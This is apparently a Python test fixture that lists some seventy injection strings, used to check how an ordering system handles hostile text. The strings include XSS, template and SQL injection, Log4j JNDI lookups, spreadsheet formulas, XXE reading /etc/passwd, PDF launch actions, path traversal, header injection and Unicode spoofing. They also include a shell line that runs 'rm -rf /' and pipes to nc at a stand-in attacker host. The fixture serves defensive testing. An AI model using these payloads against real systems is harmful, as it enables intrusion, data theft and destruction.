"""Sixty texts that somebody hopes will be taken for something else than text; what each hopes for is its name.

``MARK`` stands in most of them: where a payload ran in a browser, ``window.pwned`` is set.
"""

from __future__ import annotations

MARK = "pwned"
RUN = f"window.{MARK}=1"

PAYLOADS: dict[str, str] = {
    # markup
    "script": f"<script>{RUN}</script>",
    "script that closes what it stands in": f"</script></style></textarea></title><script>{RUN}</script>",
    "script with a source": '<script src="https://evil.example/x.js"></script>',
    "image that fails": f'<img src=x onerror="{RUN}">',
    "image without quotes": f"<img/src=x/onerror={RUN}//",
    "svg": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x></svg>",
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "math": f'<math><mtext><style><img title="</style><img src=x onerror={RUN}>"></mtext></math>',
    "iframe": f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    "object": '<object data="data:text/html,<script>top.pwned=1</script>"></object>',
    "details": f"<details open ontoggle={RUN}>",
    "an attribute that ends": f'" autofocus onfocus="{RUN}" x="',
    "an attribute that ends, with apostrophes": f"' onmouseover='{RUN}' x='",
    "a link to a script": f'<a href="javascript:{RUN}">click</a>',
    "a bare link to a script": f"javascript:{RUN}//https://x",
    "data link": "data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "style": "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
    "form": '<form action="https://evil.example"><input name=password autofocus></form>',
    "comment": f"<!--><script>{RUN}</script-->",
    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "markdown": f"[click](javascript:{RUN}) ![x](https://evil.example/x.png) <https://evil.example>",
    "mathjax": f"\\(\\href{{javascript:{RUN}}}{{x}}\\) $$\\unicode{{x3c}}$$",
    "latex": "\\input{/etc/passwd} \\write18{id} \\immediate\\openin5=x",
    "letters of another alphabet": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "a tag in two languages": f"<\u017fcript>{RUN}</\u017fcript>",
    # templates and formulas
    "jinja": "{{7*7}} {% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "python format": "{0.__class__.__init__.__globals__} %(x)s %s %n",
    "expression": "${7*7} #{7*7} <%= 7*7 %> [[7*7]]",
    "log4j": "${jndi:ldap://evil.example/a}",
    "formula": '=HYPERLINK("https://evil.example?"&A1,"click")',
    "formula with a plus": "+cmd|' /C calc'!A0",
    "shell": "$(touch /tmp/pwned) `id` ; rm -rf / | nc evil.example 1",
    "sql": "'); DROP TABLE orders; --",
    # xml
    "external entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "entity bomb": '<!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>&b;',
    "cdata": f"]]><script>{RUN}</script><![CDATA[",
    "processing instruction": '<?xml-stylesheet href="https://evil.example/x.xsl"?><?php system("id") ?>',
    "xinclude": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    # pdf
    "pdf text that ends": ") Tj ET /JS (app.alert(1)) /S /JavaScript BT (",
    "pdf object": "endstream endobj 1 0 obj << /OpenAction << /S /Launch /F (calc) >> >> endobj",
    "pdf link": "<< /Type /Action /S /URI /URI (https://evil.example) >>",
    "reportlab markup": '<font color="red"><a href="https://evil.example">x</a></font><img src="/etc/passwd"/>',
    # fountain
    "fountain action": "!INT. VAULT - NIGHT",
    "fountain cue": "@mallory",
    "fountain lyric": "~Sing a song of pwned",
    "fountain transition": "> CUT TO EVIL:",
    "fountain centred": "> THE END <",
    "fountain heading": ".SNEAKY HEADING",
    "fountain real heading": "INT. SOMEWHERE ELSE - DAY",
    "fountain section": "# ACT NINE",
    "fountain title": "Title: Another / Author: Mallory",
    "fountain note and boneyard": "[[a note]] /* all that follows */ === ***bold*** _under_",
    # paths and headers
    "path": "../../../../etc/passwd",
    "windows path": "..\\..\\con\\NUL.txt:stream",
    "a file name that ends": 'x.pdf"; filename="evil.html',
    # length
    "a very long word": "w" * 79,
    "one letter under eighty accents": "Z" + "\u0303\u0489" * 39,
}
"""All of these are text that can be typed: an order takes them as they are."""

UNTYPED: dict[str, str] = {
    "null": f"a\x00<script>{RUN}</script>",
    "terminal colours": "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "a line of a log": "x\n2026-11-24 12:00:00 INFO tng.shop order ord_1 PAID",
    "a header of an answer": "x\r\nSet-Cookie: a=b\r\n\r\n<script>",
    "backspaces": "harmless\x08\x08\x08\x08evil",
    "right to left": "user\u202etxt.exe\u202c \u2066x\u2069",
    "zero width": "pay\u200bpal \u200d\ufeff\u2060",
    "line separators": "one\u2028two\u2029three\x85four",
    "tags that nobody sees": "a\U000e0041\U000e0042",
    "no character at all": "a\ufffe\uffff",
    "half a character": "a\ud800b",
    "private": "a\ue000b",
}
"""These hold what nobody types: an order refuses them, or brings them to one plain line. A model may write them all."""

ALL = PAYLOADS | UNTYPED
